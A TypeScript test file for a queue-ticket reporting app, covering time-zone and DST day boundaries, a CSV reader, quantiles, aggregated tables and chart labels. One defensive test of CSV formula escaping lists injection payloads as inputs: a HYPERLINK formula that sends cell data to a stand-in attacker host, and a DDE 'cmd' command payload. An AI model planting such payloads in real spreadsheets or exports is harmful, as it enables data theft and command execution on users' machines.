import { describe, expect, test } from 'bun:test'
import { ChartAggregator, quantileCont } from '../../src/web/charts/aggregate.ts'
import { CsvRecords, instantMs } from '../../src/web/charts/csv-rows.ts'
import { numbersTables, placeLabel, tableCsv, weeklyTable } from '../../src/web/charts/tables.ts'
import { csvCell } from '../../src/web/csv-cells.ts'
import { LocalClock, canonicalTimeZone, dayKey, dayNumber, describeOffset, weekday } from '../../src/web/zone.ts'
import { readRange } from '../../src/web/range.ts'

/** The charts' arithmetic without a browser: zones, the CSV reader, quantiles, the tables. */

describe('time zones', () => {
  test.each([
    ['America/New_York', '2026-03-08', '2026-03-08T05:00:00.000Z', 23],
    ['America/New_York', '2026-11-01', '2026-11-01T04:00:00.000Z', 25],
    ['Pacific/Auckland', '2026-04-05', '2026-04-04T11:00:00.000Z', 25],
    ['Pacific/Auckland', '2026-09-27', '2026-09-26T12:00:00.000Z', 23],
    ['Asia/Kolkata', '2026-03-01', '2026-02-28T18:30:00.000Z', 24],
    ['UTC', '2026-03-01', '2026-03-01T00:00:00.000Z', 24],
    // Santiago's clocks jump from 00:00 to 01:00: the day starts at 01:00 local.
    ['America/Santiago', '2026-09-06', '2026-09-06T04:00:00.000Z', 23],
  ])('%s %s starts at %s and has %d hours', (zone, day, start, hours) => {
    const clock = new LocalClock(zone)
    expect(new Date(clock.startOfDay(dayNumber(day)!)).toISOString()).toBe(start)
    expect(clock.hoursIn(dayNumber(day)!)).toBe(hours)
  })

  test("an instant's local day and hour, on both sides of a change", () => {
    const clock = new LocalClock('Pacific/Auckland')
    // 2026-04-04T13:30Z is 02:30 NZDT on 5 April; an hour later it is 02:30 NZST again.
    expect(clock.local(Date.parse('2026-04-04T13:30:00Z'))).toEqual({ day: dayNumber('2026-04-05')!, hour: 2 })
    expect(clock.local(Date.parse('2026-04-04T14:30:00Z'))).toEqual({ day: dayNumber('2026-04-05')!, hour: 2 })
    expect(clock.local(Date.parse('2026-04-04T10:59:59Z')).day).toBe(dayNumber('2026-04-04')!)
  })

  test('names: canonical, or refused', () => {
    expect(canonicalTimeZone('europe/amsterdam')).toBe('Europe/Amsterdam')
    expect(canonicalTimeZone('Mars/Olympus_Mons')).toBeNull()
    expect(canonicalTimeZone('  ')).toBeNull()
    expect(describeOffset(13 * 3_600_000)).toBe('UTC+13:00')
    expect(describeOffset(-(5 * 60 + 30) * 60_000)).toBe('UTC−05:30')
  })

  test('day numbers and weekdays', () => {
    expect(dayKey(dayNumber('2026-03-08')!)).toBe('2026-03-08')
    expect(weekday(dayNumber('2026-03-09')!)).toBe(0) // a Monday
    expect(weekday(dayNumber('2026-03-08')!)).toBe(6) // a Sunday
  })

  test("the range's bounds are the zone's midnights; a file's limit is 90 days, the charts' none", () => {
    const clock = new LocalClock('America/New_York')
    const range = readRange('2026-03-01', '2026-03-31', clock)
    expect(range).toMatchObject({ ok: true, days: 31, fromMs: Date.parse('2026-03-01T05:00:00Z'), toMs: Date.parse('2026-04-01T04:00:00Z') })
    expect(readRange('2026-01-01', '2026-04-30', clock)).toMatchObject({ ok: false, field: 'to' })
    expect(readRange('2026-01-01', '2026-04-30', clock, null)).toMatchObject({ ok: true, days: 120 })
  })
})

describe('the CSV reader', () => {
  test('records split anywhere (inside a UTF-8 character too), quoted fields with commas, quotes and line breaks', () => {
    const bytes = new TextEncoder().encode('a,b,c\r\n1,"x, ""y""",3\r\n2,"line\r\nbreak",\r\nÄmter,,z\r\n4,5')
    for (const size of [1, 2, 3, 7, 100]) {
      const records: string[][] = []
      const reader = new CsvRecords((record) => records.push(Array.from({ length: record.length }, (_, i) => record.field(i))))
      for (let i = 0; i < bytes.length; i += size) reader.push(bytes.slice(i, i + size))
      reader.end()
      expect(records).toEqual([['a', 'b', 'c'], ['1', 'x, "y"', '3'], ['2', 'line\r\nbreak', ''], ['Ämter', '', 'z'], ['4', '5']])
    }
  })

  test('instants read from their bytes as Date.parse reads them; other forms through Date.parse', () => {
    const bytes = (text: string) => new TextEncoder().encode(text)
    for (const text of ['2026-03-08T06:59:59.999Z', '2026-03-08T07:00:00.000Z', '0099-12-31T23:59:59.000Z', '2026-02-28T00:00:00.001Z']) {
      expect(instantMs(bytes(text))).toBe(Date.parse(text))
    }
    expect(instantMs(bytes('2026-03-08T07:00:00Z'))).toBe(Date.parse('2026-03-08T07:00:00Z'))
    expect(instantMs(bytes('2026-03-0xT07:00:00.000Z'))).toBeNaN()
  })
})

describe('quantiles and tables', () => {
  test('quantile_cont: linear between the nearest ranks (numpy and DuckDB agree on these)', () => {
    const sorted = (values: number[]) => Float64Array.from(values).sort()
    expect(quantileCont(sorted([1, 2, 3, 10]), 0.9)).toBeCloseTo(7.9, 10)
    expect(quantileCont(sorted([1, 2, 3, 10]), 0.5)).toBe(2.5)
    expect(quantileCont(sorted([5]), 0.9)).toBe(5)
    expect(quantileCont(sorted([4, 4, 4, 8]), 0.5)).toBe(4)
    expect(quantileCont(sorted([1, 1, 9, 9]), 0.5)).toBe(5)
  })

  test('the numbers of a few tickets, as tables and CSV: a queue is one queue of one location, never merged by name', () => {
    const clock = new LocalClock('America/New_York')
    const places = new Map([
      ['q1', { location: 'Amsterdam', queue: 'Payments' }],
      ['q2', { location: 'Malmö', queue: 'Payments' }],
      ['q3', { location: 'Malmö', queue: 'Returns, desk 2' }],
    ])
    const aggregator = new ChartAggregator(clock, dayNumber('2026-03-07')!, dayNumber('2026-03-08')!, places)
    const at = (iso: string) => Date.parse(iso)
    aggregator.add('COMPLETED', 'q1', at('2026-03-07T14:00:00Z'), at('2026-03-07T14:03:00Z')) // 09:00 Sat
    aggregator.add('NO_SHOW', 'q2', at('2026-03-08T04:59:00Z'), at('2026-03-08T05:09:00Z')) // 23:59 Sat
    aggregator.add('WAITING', 'q3', at('2026-03-08T07:30:00Z'), null) // 03:30 EDT Sun
    const all = numbersTables(aggregator.numbers())
    const byId = (id: string) => all.find((table) => table.id === id)!
    const [perLocation, service, target] = [byId('per-location'), byId('service'), byId('target')]
    const tables = [byId('per-day'), byId('wait'), byId('arrivals'), byId('outcome')]
    expect(all.map((table) => table.title)).toEqual(['Tickets per day', 'Tickets by location', 'Wait by queue', 'Arrivals by hour', 'Service time by location', 'Called within 10 min by location', 'Outcome by queue'])
    // Within 10 minutes: Amsterdam's call after 3 minutes and Malmö's after exactly 10 (at most the target counts).
    expect(target.rows).toEqual([['Amsterdam', '1', '1', '100.0'], ['Malmö', '1', '1', '100.0']])
    expect(target.perQueue!.rows).toEqual([['Amsterdam', 'Payments', '1', '1', '100.0'], ['Malmö', 'Payments', '1', '1', '100.0']])
    // No completedAt was given: no service time.
    expect(service.rows).toEqual([])
    // Per location: Malmö's two queues are one location.
    expect(perLocation.rows).toEqual([['Amsterdam', '0', '0', '1', '0', '0', '0', '1'], ['Malmö', '1', '0', '0', '0', '0', '1', '2']])
    expect(tables[0]!.headers).toEqual(['Day', 'Waiting', 'Called', 'Completed', 'Canceled', 'Skipped', 'No-show', 'Total'])
    expect(tables[0]!.rows).toEqual([['2026-03-07', '0', '0', '1', '0', '0', '1', '2'], ['2026-03-08', '1', '0', '0', '0', '0', '0', '1']])
    // The two queues called Payments are two rows, each under its location.
    expect(tables[1]!.headers.slice(0, 2)).toEqual(['Location', 'Queue'])
    expect(tables[1]!.rows).toEqual([['Amsterdam', 'Payments', '1', '3.0', '3.0'], ['Malmö', 'Payments', '1', '10.0', '10.0']])
    expect(tables[2]!.rows[9]).toEqual(['9', '0', '0', '0', '0', '0', '1', '0', '1'])
    expect(tables[2]!.rows[3]).toEqual(['3', '0', '0', '0', '0', '0', '0', '1', '1'])
    expect(tables[2]!.rows[23]).toEqual(['23', '0', '0', '0', '0', '0', '1', '0', '1'])
    expect(tables[3]!.headers).toEqual(['Location', 'Queue', 'Completed', 'No-show', 'Canceled', 'Skipped', 'Total'])
    expect(tables[3]!.rows).toEqual([['Amsterdam', 'Payments', '100.0', '0.0', '0.0', '0.0', '1'], ['Malmö', 'Payments', '0.0', '100.0', '0.0', '0.0', '1']])
    expect(tableCsv({ ...tables[1]!, rows: [['Malmö', 'Returns, desk 2', '1', '0.5', '0.5']] })).toBe(
      'Location,Queue,Called tickets,Median wait (min),90th percentile (min)\r\nMalmö,"Returns, desk 2",1,0.5,0.5\r\n',
    )
  })

  test('weeks: local weeks from Monday, the first and last partial, their days said', () => {
    const clock = new LocalClock('Europe/Amsterdam')
    const aggregator = new ChartAggregator(clock, dayNumber('2026-03-07')!, dayNumber('2026-03-17')!, new Map())
    aggregator.add('WAITING', 'q', Date.parse('2026-03-08T22:30:00Z'), null) // Sunday 23:30 local: the first week
    aggregator.add('WAITING', 'q', Date.parse('2026-03-08T23:30:00Z'), null) // Monday 00:30 local: the second
    expect(weeklyTable(aggregator.numbers()).rows.map((row) => [row[0], row[1], row.at(-1)])).toEqual([['2026-03-02', '2', '1'], ['2026-03-09', '7', '1'], ['2026-03-16', '2', '0']])
  })

  test('no cell of a CSV the page writes starts a formula (OWASP): =, +, -, @, tab, CR get a leading apostrophe', () => {
    const names = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+cmd|' /C calc'!A0", '@SUM(1+1)', '-2+3', '\tx', '\rx', 'Plain']
    expect(names.map(csvCell)).toEqual(['"\'=HYPERLINK(""http://evil.example/?x=""&A1,""Click"")"', "'+cmd|' /C calc'!A0", "'@SUM(1+1)", "'-2+3", "'\tx", '"\'\rx"', 'Plain'])
  })
})

describe('a row label in a chart', () => {
  test('a queue is named with its location; a location row, or the rest, by its one name (no trailing separator)', () => {
    expect(placeLabel({ location: 'Lyon Old Town', queue: 'Walk-ins' })).toBe('Lyon Old Town · Walk-ins')
    expect(placeLabel({ location: 'Lyon Old Town', queue: '' })).toBe('Lyon Old Town')
    expect(placeLabel({ location: '', queue: 'Other 18 locations' })).toBe('Other 18 locations')
  })
})
